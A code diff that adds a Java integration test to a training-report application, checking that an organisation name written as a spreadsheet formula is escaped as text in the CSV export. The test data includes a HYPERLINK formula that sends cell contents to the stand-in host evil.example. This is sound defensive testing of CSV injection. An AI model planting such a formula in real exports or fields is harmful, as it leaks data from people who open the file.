@@ -80,6 +80,29 @@ class ReportFilesIT {
     }
 
     @Test
+    void aNameThatASpreadsheetWouldRunAsAFormulaIsTextInTheCsv() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Hội LHPN\")";
+        Api.Res organisation = world.organizer.post("/api/v1/organizations", Map.of("name", formula));
+        assertThat(organisation.status()).as(organisation.body()).isEqualTo(201);
+        LocalDate day = LocalDate.of(2025, 5, 12); // a year the other tests of this class do not count
+        UUID course = Fixtures.course(world, world.districtA, "completed", day, day, "training", new String[0],
+                new String[0], "district", UUID.fromString(organisation.json().get("id").asText()));
+        UUID session = Fixtures.session(world, course, day, LocalTime.of(8, 0), LocalTime.of(11, 0));
+        UUID trainee = Fixtures.participant(world, "Lò Thị Xuân", "female", world.communeA1);
+        Fixtures.enroll(world, course, trainee);
+        Reports.present(world, session, trainee, day);
+
+        Api.Res res = world.reporter.get("/api/v1/reports/indicators?format=csv&from=2025-05-01&to=2025-05-31"
+                + "&by=organizer&indicators=courses_held");
+        assertThat(res.status()).as(res.body()).isEqualTo(200);
+        try (CSVParser csv = CSVParser.parse(new StringReader(res.body().substring(1)),
+                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
+            assertThat(csv.getRecords()).filteredOn(r -> r.get("Giá trị").equals("1"))
+                    .extracting(r -> r.get("Đơn vị tổ chức")).containsExactly("'" + formula);
+        }
+    }
+
+    @Test
     void theXlsxIsAnAnnexWithATitleVietnameseHeadingsAndTheSameNumbers() throws Exception {
         byte[] xlsx = world.reporter.bytes("/api/v1/reports/indicators?format=xlsx&" + QUERY);
         try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
